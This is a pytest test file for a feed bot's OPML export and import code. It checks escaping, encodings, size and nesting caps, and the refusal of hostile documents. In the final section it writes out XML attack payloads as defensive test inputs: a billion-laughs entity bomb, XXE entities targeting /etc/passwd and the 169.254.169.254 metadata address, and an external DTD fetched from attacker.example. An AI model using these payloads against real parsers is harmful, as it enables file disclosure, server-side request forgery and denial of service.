"""OPML export and import (bot/core/opml.py), hostile documents, and importing entries as feeds."""
from __future__ import annotations

import time
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from datetime import datetime, timezone

import pytest

from bot.core.opml import (
    MAX_OPML_BYTES,
    OpmlEntry,
    OpmlError,
    OpmlImport,
    export_opml,
    parse_opml,
)
from tests.support.paths import FIXTURES as FIXTURES_ROOT

FIXTURES = FIXTURES_ROOT / "feeds"
T0 = datetime(2024, 5, 20, 12, 0, tzinfo=timezone.utc)


@dataclass
class F:
    name: str
    kind: str
    location: str
    category: tuple[str, ...] = ()


FEEDS = [
    F("9to5Mac & <friends> \"quoted\"", "rss", "https://9to5mac.com/feed/?a=1&b=2"),
    F("新浪财经", "rss", "https://rss.example.cn/finance.xml", ("金融", "新浪财经")),
    F("博客", "folder", "/srv/blog/source/_posts", ("博客",)),
    F("Bell\x07 in name", "rss", "https://example.com/bell"),
]


def test_export_is_valid_escaped_opml2():
    data = export_opml(FEEDS, now=T0)
    assert data.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    root = ET.fromstring(data)
    assert root.tag == "opml" and root.get("version") == "2.0"
    assert root.findtext("head/dateCreated") == "Mon, 20 May 2024 12:00:00 GMT"
    outlines = root.findall("body/outline")
    assert outlines[0].get("text") == "9to5Mac & <friends> \"quoted\""
    assert outlines[0].get("xmlUrl") == "https://9to5mac.com/feed/?a=1&b=2" and outlines[0].get("type") == "rss"
    assert b"&amp;b=2" in data and b"&lt;friends&gt;" in data
    assert outlines[1].get("category") == "/金融/新浪财经"
    assert outlines[2].get("type") == "folder" and outlines[2].get("path") == "/srv/blog/source/_posts"
    assert outlines[3].get("text") == "Bell in name"  # a control character XML cannot carry is dropped


def test_round_trip():
    parsed = parse_opml(export_opml(FEEDS, now=T0))
    assert isinstance(parsed, OpmlImport) and parsed.invalid == []
    assert parsed.entries == [
        OpmlEntry("https://9to5mac.com/feed/?a=1&b=2", "9to5Mac & <friends> \"quoted\"", ()),
        OpmlEntry("https://rss.example.cn/finance.xml", "新浪财经", ("金融", "新浪财经")),
        OpmlEntry("/srv/blog/source/_posts", "博客", ("博客",)),
        OpmlEntry("https://example.com/bell", "Bell in name", ()),
    ]


def test_import_from_another_reader_with_nested_folders_and_bad_entries():
    parsed = parse_opml((FIXTURES / "reader_export.opml").read_bytes())
    assert isinstance(parsed, OpmlImport)
    assert parsed.entries == [
        OpmlEntry("https://9to5mac.com/feed/", "9to5Mac", ("Tech",)),
        OpmlEntry("https://feeds.arstechnica.com/arstechnica/index", "Ars", ("Tech", "Deeper")),
        OpmlEntry("https://example.com/tagged.xml", "Tagged", ("金融", "新浪财经")),
    ]
    assert parsed.invalid == [
        ("file:///etc/passwd", "not an http(s) URL"),
        ("ftp://example.com/feed", "not an http(s) URL"),
        ("No URL", "no xmlUrl"),
        ("https://9to5mac.com/feed/", "listed twice"),
    ]


@pytest.mark.parametrize("fixture", ["billion_laughs.opml", "external_entity.opml"])
def test_doctype_and_entities_are_refused(fixture):
    got = parse_opml((FIXTURES / fixture).read_bytes())
    assert isinstance(got, OpmlError) and got.reason == "doctype"


def test_entity_declaration_hidden_behind_an_encoding_is_refused():
    # Bytes checks only work for ASCII-compatible encodings: anything else is refused before parsing.
    utf16 = (FIXTURES / "billion_laughs.opml").read_text("utf-8").replace("UTF-8", "UTF-16").encode("utf-16")
    assert parse_opml(utf16) == OpmlError("encoding", "only UTF-8 OPML is accepted")
    ebcdic = b'<?xml version="1.0" encoding="cp500"?>' + "<!DOCTYPE opml []><opml/>".encode("cp500")
    got = parse_opml(ebcdic)
    assert isinstance(got, OpmlError) and got.reason == "encoding"


def test_latin1_declared_document_is_read():
    doc = '<?xml version="1.0" encoding="ISO-8859-1"?><opml version="2.0"><body>' \
          '<outline text="Café" xmlUrl="https://cafe.example.com/rss"/></body></opml>'
    got = parse_opml(doc.encode("latin-1"))
    assert got.entries == [OpmlEntry("https://cafe.example.com/rss", "Café", ())]


def test_oversized_document_is_refused_before_parsing():
    big = b"<opml><body>" + b"<outline text='x'/>" * (MAX_OPML_BYTES // 19 + 1) + b"</body></opml>"
    got = parse_opml(big)
    assert isinstance(got, OpmlError) and got.reason == "too_large"


@pytest.mark.parametrize("doc, reason", [
    (b"<opml><body><outline", "malformed"),
    (b"<rss version='2.0'><channel/></rss>", "not_opml"),
    (b"<opml version='2.0'><head/></opml>", "not_opml"),
])
def test_documents_that_are_not_opml(doc, reason):
    got = parse_opml(doc)
    assert isinstance(got, OpmlError) and got.reason == reason


def test_deep_nesting_and_outline_count_are_capped():
    deep = b"<opml><body>" + b"<outline text='d'>" * 40 + b"<outline xmlUrl='https://x.example/f'/>" \
           + b"</outline>" * 40 + b"</body></opml>"
    got = parse_opml(deep)
    assert got.entries == [] and any("nested deeper" in reason for _, reason in got.invalid)
    many = b"<opml><body>" + b"".join(b"<outline xmlUrl='https://x.example/%d'/>" % i for i in range(6000)) \
           + b"</body></opml>"
    got = parse_opml(many)
    assert len(got.entries) == 5000 and "more than 5000 outlines" in got.invalid[-1][1]


async def test_import_feeds_reports_added_skipped_invalid(tmp_path):
    from bot.feeds.manage import add_feed, import_feeds, list_feeds
    from storage.db import open_db

    parsed = parse_opml((FIXTURES / "reader_export.opml").read_bytes())
    entries = parsed.entries + [OpmlEntry("javascript:alert(1)", "js", ())]
    async with open_db(tmp_path / "opml.sqlite3") as db:
        await add_feed(db, "https://9to5mac.com/feed/", validate=False, now=T0)
        report = await import_feeds(db, entries, now=T0)
        feeds = await list_feeds(db)
    assert [a.feed.location for a in report.added] == [
        "https://feeds.arstechnica.com/arstechnica/index", "https://example.com/tagged.xml"]
    assert [s.feed.location for s in report.skipped] == ["https://9to5mac.com/feed/"]
    assert [(loc, why.split(":")[0]) for loc, why in report.invalid] == [("javascript:alert(1)", "bad_scheme")]
    by_loc = {f.location: f for f in feeds}
    assert by_loc["https://example.com/tagged.xml"].category == ("金融", "新浪财经")
    assert by_loc["https://feeds.arstechnica.com/arstechnica/index"].name == "Ars"


# ---------------------------------------------------------------- hostile OPML (parsed through defusedxml)
_OPML_BODY = '<opml version="2.0"><head/><body><outline text="{text}" xmlUrl="https://example.com/feed"/></body></opml>'
LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE opml [\n <!ENTITY lol "lol">\n'
          + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
          + "]>\n" + _OPML_BODY.format(text="&lol9;"))


@pytest.mark.parametrize("doc", [
    pytest.param(LAUGHS, id="billion-laughs"),
    pytest.param('<?xml version="1.0"?>\n<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                 + _OPML_BODY.format(text="&xxe;"), id="external-entity-file"),
    pytest.param('<?xml version="1.0"?>\n<!DOCTYPE opml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/">]>\n'
                 + _OPML_BODY.format(text="&xxe;"), id="external-entity-url"),
    pytest.param('<?xml version="1.0"?>\n<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\n'
                 + _OPML_BODY.format(text="x"), id="parameter-entity"),
    pytest.param('<!DOCTYPE opml SYSTEM "http://attacker.example/opml.dtd">' + _OPML_BODY.format(text="x"),
                 id="external-dtd"),
    pytest.param('<!DOCTYPE opml []>' + _OPML_BODY.format(text="x"), id="empty-internal-dtd"),
    pytest.param('<!DOCTYPE opml [<!ENTITY name "Feed">]>' + _OPML_BODY.format(text="&name;"), id="harmless-entity"),
])
def test_hostile_opml_is_refused_with_a_clear_error_before_anything_expands(doc):
    started = time.perf_counter()
    got = parse_opml(doc.encode())
    assert time.perf_counter() - started < 1.0
    assert isinstance(got, OpmlError) and got.reason == "doctype", got
    assert "DOCTYPE" in got.detail or "entit" in got.detail or "external" in got.detail


def test_an_undeclared_entity_is_malformed_not_fetched():
    got = parse_opml(_OPML_BODY.format(text="&xxe;").encode())
    assert isinstance(got, OpmlError) and got.reason == "malformed"


def test_a_feed_url_with_credentials_is_exported_without_them():
    data = export_opml([F("Private", "rss", "https://ann:s3cret@feeds.example.com/private.xml")], now=T0)
    assert b"s3cret" not in data and b"ann" not in data
    assert parse_opml(data).entries == [OpmlEntry("https://feeds.example.com/private.xml", "Private", ())]
